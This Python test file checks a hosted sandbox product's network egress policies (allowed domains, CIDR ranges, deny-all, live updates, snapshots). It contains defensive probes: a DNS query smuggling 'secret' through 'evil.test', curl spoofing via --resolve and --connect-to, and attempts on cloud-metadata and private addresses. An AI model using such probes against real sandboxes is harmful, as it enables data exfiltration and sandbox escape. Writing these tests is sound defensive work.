"""Policies through the hosted product's Python clients. What they mean is told by what the origins saw."""

import json
from typing import Any

import pytest
from upstash_box import BoxError

from tests.clients.conftest import CURL, Client, Make
from tests.lab import Lab, plan
from tests.service.conftest import Server

# The client's own way to use its websockets library.
pytestmark = pytest.mark.filterwarnings(r"ignore:connect\(\) must be used:DeprecationWarning")

CUSTOM = {
    "mode": "custom",
    "allowed_domains": ["allowed.test", "*.wild.test"],
    "allowed_cidrs": [plan.CIDR],
    "denied_cidrs": ["51.81.77.128/25"],
}
ALLOW_ALL = {"mode": "allow-all"}
DENY_ALL = {"mode": "deny-all"}

BANNER = """
import socket
with socket.create_connection(({address!r}, {port}), 5) as connection:
    print(connection.recv(100).decode().strip())
"""
QUESTION = """
import socket
question = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x06secret\\x04evil\\x04test\\0\\0\\1\\0\\1"
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(2)
sock.sendto(question, ({address!r}, 53))
print("rcode", sock.recv(512)[3] & 15)
"""


async def fetch(client: Client, box: Any, url: str, *options: str) -> Any:
    return await client(box.exec.command(" ".join([CURL, *options, f"'{url}'"])))


async def banner(client: Client, box: Any, address: str) -> Any:
    """What a server says that speaks first: neither TLS nor HTTP."""
    code = BANNER.format(address=address, port=plan.BANNER_PORT)
    return await client(box.exec.code(code=code, lang="python"))


async def reached(client: Client, box: Any, lab: Lab, url: str = "https://evil.test/") -> bool:
    """Whether a fetch got through; True and False both proved at the origin."""
    lab.reset()
    done = await fetch(client, box, url)
    if done.exit_code == 0:
        assert lab.requests() != []
        return True
    assert lab.packets(plan.EVIL4) == lab.packets(plan.EVIL6) == []
    return False


class TestCustom:
    async def test_an_allowed_name(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        done = await fetch(client, box, "https://allowed.test/path")
        assert (done.exit_code, done.stderr, done.status) == (0, "", "completed")
        assert json.loads(done.result)["sni"] == "allowed.test"
        assert [(request.tls, request.target) for request in lab.requests()] == [(True, "/path")]

    async def test_a_name_below_a_wildcard(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        assert (await fetch(client, box, "https://deep.below.wild.test/")).exit_code == 0
        assert {request.address for request in lab.requests()} == {plan.WILDCARD4}

    async def test_a_name_that_is_not_allowed(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        done = await fetch(client, box, "https://evil.test/")
        assert (done.exit_code, done.status) == (6, "failed")
        assert lab.packets() == []

    async def test_that_name_at_its_own_address(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        at = f"--resolve evil.test:443:{plan.EVIL4}"
        done = await fetch(client, box, "https://evil.test/", at)
        assert done.exit_code == 35
        assert "access denied" in done.stderr
        assert lab.packets() == []

    async def test_an_allowed_name_at_a_foreign_address(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        spoof = f"--connect-to allowed.test:443:{plan.EVIL4}:443"
        assert (await fetch(client, box, "https://allowed.test/", spoof)).exit_code == 0
        assert lab.packets(plan.EVIL4) == []

    async def test_an_allowed_range(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        done = await banner(client, box, plan.CIDR4)
        assert (done.exit_code, done.stdout) == (0, "SSH-2.0-lab\n"), done.stderr
        assert [one.address for one in lab.connections()] == [plan.CIDR4]

    async def test_a_denied_range_within_it(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        assert (await banner(client, box, "51.81.77.129")).exit_code == 1
        assert lab.packets() == []

    async def test_a_question_carries_nothing_out(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        code = QUESTION.format(address=plan.NAMESERVER4)
        done = await client(box.exec.code(code=code, lang="python"))
        assert (done.exit_code, done.stdout) == (0, "rcode 5\n"), done.stderr
        assert lab.packets() == []


class TestDenyAll:
    @pytest.mark.parametrize(
        "url", ["https://allowed.test/", f"http://{plan.CIDR4}/", f"http://[{plan.EVIL6}]/"]
    )
    async def test_nothing_goes_out(self, client: Client, make: Make, lab: Lab, url: str) -> None:
        box = await make(network_policy=DENY_ALL)
        assert (await fetch(client, box, url, "--fail")).exit_code != 0
        assert lab.packets() == []

    async def test_not_even_a_question(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=DENY_ALL)
        code = QUESTION.format(address=plan.NAMESERVER4)
        done = await client(box.exec.code(code=code, lang="python"))
        assert done.stdout == "rcode 5\n"
        assert lab.packets() == []


class TestAllowAll:
    @pytest.mark.parametrize("policy", [{"network_policy": ALLOW_ALL}, {}], ids=["given", "default"])
    async def test_every_public_host(
        self, client: Client, make: Make, lab: Lab, policy: dict[str, Any]
    ) -> None:
        box = await make(**policy)
        assert box.network_policy == ALLOW_ALL
        assert await reached(client, box, lab, "https://evil.test/")
        assert await reached(client, box, lab, f"http://{plan.CIDR4}/")

    @pytest.mark.parametrize("address", [plan.PRIVATE4, plan.METADATA4])
    @pytest.mark.parametrize(
        "policy",
        [
            ALLOW_ALL,
            {"mode": "custom", "allowed_cidrs": ["0.0.0.0/0", "::/0"]},
            {"mode": "custom", "allowed_cidrs": [f"{plan.PRIVATE4}/32", f"{plan.METADATA4}/32"]},
        ],
        ids=["allow-all", "all ranges", "just these"],
    )
    async def test_never_a_private_one(
        self, client: Client, make: Make, lab: Lab, policy: object, address: str
    ) -> None:
        box = await make(network_policy=policy)
        assert (await fetch(client, box, f"http://{address}/")).exit_code in {7, 56}  # curl: reset
        assert lab.packets() == []


class TestUpdate:
    async def test_it_is_in_force_at_once(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=DENY_ALL)
        assert not await reached(client, box, lab)
        for policy, expected in ((ALLOW_ALL, True), (CUSTOM, False), (ALLOW_ALL, True), (DENY_ALL, False)):
            await client(box.update_network_policy(policy))
            assert box.network_policy == policy
            assert await reached(client, box, lab) is expected

    async def test_it_cuts_what_is_open(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=ALLOW_ALL)
        download = await client(
            box.exec.session(cmd=f"{CURL} -o /dev/null 'https://evil.test/slow?chunks=0'")
        )
        request = lab.expect(lab.requests)[0]
        await client(box.update_network_policy(CUSTOM))
        assert await client.ended(download) == 56  # curl: failure in receiving
        (open_before,) = [one for one in lab.connections() if one.id == request.connection]
        lab.expect(lambda: [one for one in lab.connections() if one.id == open_before.id and one.closed])

    async def test_it_loses_nothing_that_is_still_allowed(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=ALLOW_ALL)
        heard: list[bytes] = []
        url = "https://allowed.test/slow?chunks=20&interval=0.02&size=1000"
        download = await client(box.exec.session(cmd=f"{CURL} '{url}' | wc -c", on_stdout=heard.append))
        lab.expect(lab.requests)
        await client(box.update_network_policy(CUSTOM))
        assert await client.ended(download) == 0
        assert b"".join(heard).strip() == b"20000"

    async def test_what_is_no_policy_changes_nothing(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        with pytest.raises(BoxError) as refused:
            await client(box.update_network_policy({"mode": "custom", "allowed_domains": ["*.a.test", "*"]}))
        assert refused.value.status_code == 422
        assert "allowed_domains[1]" in str(refused.value)
        again = await client(client.Box.get(box.id))
        assert again.network_policy == box.network_policy == CUSTOM
        assert not await reached(client, box, lab)
        await client.close(again)

    async def test_a_paused_box_takes_one_too(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=ALLOW_ALL)
        await client(box.pause())
        await client(box.update_network_policy(DENY_ALL))
        await client(box.resume())
        assert not await reached(client, box, lab)


class TestReadBack:
    @pytest.mark.parametrize("policy", [ALLOW_ALL, DENY_ALL, CUSTOM], ids=lambda policy: str(policy["mode"]))
    async def test_by_id_and_by_name(self, client: Client, make: Make, policy: object) -> None:
        box = await make(name="reader", network_policy=policy)
        by_id = await client(client.Box.get(box.id))
        by_name = await client(client.Box.get_by_name("reader"))
        assert box.network_policy == by_id.network_policy == by_name.network_policy == policy
        assert box.id == by_id.id == by_name.id
        for one in (by_id, by_name):
            await client.close(one)

    async def test_a_list_that_is_not_given_is_none(self, client: Client, make: Make) -> None:
        box = await make(network_policy={"mode": "custom", "allowed_domains": ["allowed.test"]})
        assert box.network_policy == {
            "mode": "custom",
            "allowed_domains": ["allowed.test"],
            "allowed_cidrs": None,
            "denied_cidrs": None,
        }

    async def test_the_list_of_boxes_tells_it(self, client: Client, make: Make) -> None:
        await make(network_policy=DENY_ALL)
        (listed,) = await client(client.Box.list())
        assert listed.network_policy == DENY_ALL


class TestOtherBoxes:
    async def test_an_ephemeral_box(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(by=client.EphemeralBox.create, ttl=60, network_policy=CUSTOM)
        assert box.network_policy == CUSTOM
        assert await reached(client, box, lab, "https://allowed.test/")
        assert not await reached(client, box, lab)

    async def test_from_a_snapshot_with_a_policy(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=ALLOW_ALL)
        snapshot = await client(box.snapshot(name="open"))
        for by in (client.Box.from_snapshot, client.EphemeralBox.from_snapshot):
            restored = await make(snapshot.id, by=by, network_policy=DENY_ALL)
            assert restored.network_policy == DENY_ALL
            assert not await reached(client, restored, lab)
        assert await reached(client, box, lab)

    async def test_from_a_snapshot_without_one(self, client: Client, make: Make, lab: Lab) -> None:
        box = await make(network_policy=CUSTOM)
        snapshot = await client(box.snapshot(name="closed"))
        restored = await make(snapshot.id, by=client.Box.from_snapshot)
        assert restored.network_policy == CUSTOM
        assert not await reached(client, restored, lab)

    async def test_boxes_keep_their_own(self, client: Client, make: Make, lab: Lab) -> None:
        closed, opened = await make(network_policy=DENY_ALL), await make(network_policy=ALLOW_ALL)
        assert not await reached(client, closed, lab)
        assert await reached(client, opened, lab)


async def test_the_service_itself_is_out_of_reach(
    client: Client, make: Make, lab: Lab, service: Server
) -> None:
    box = await make(network_policy=ALLOW_ALL)
    before = len(lab.loopback_packets())
    done = await fetch(client, box, f"{service.url}/v2/box", f"-H 'X-Box-Api-Key: {service.key}'", "--fail")
    assert done.exit_code != 0
    assert len(lab.loopback_packets()) == before
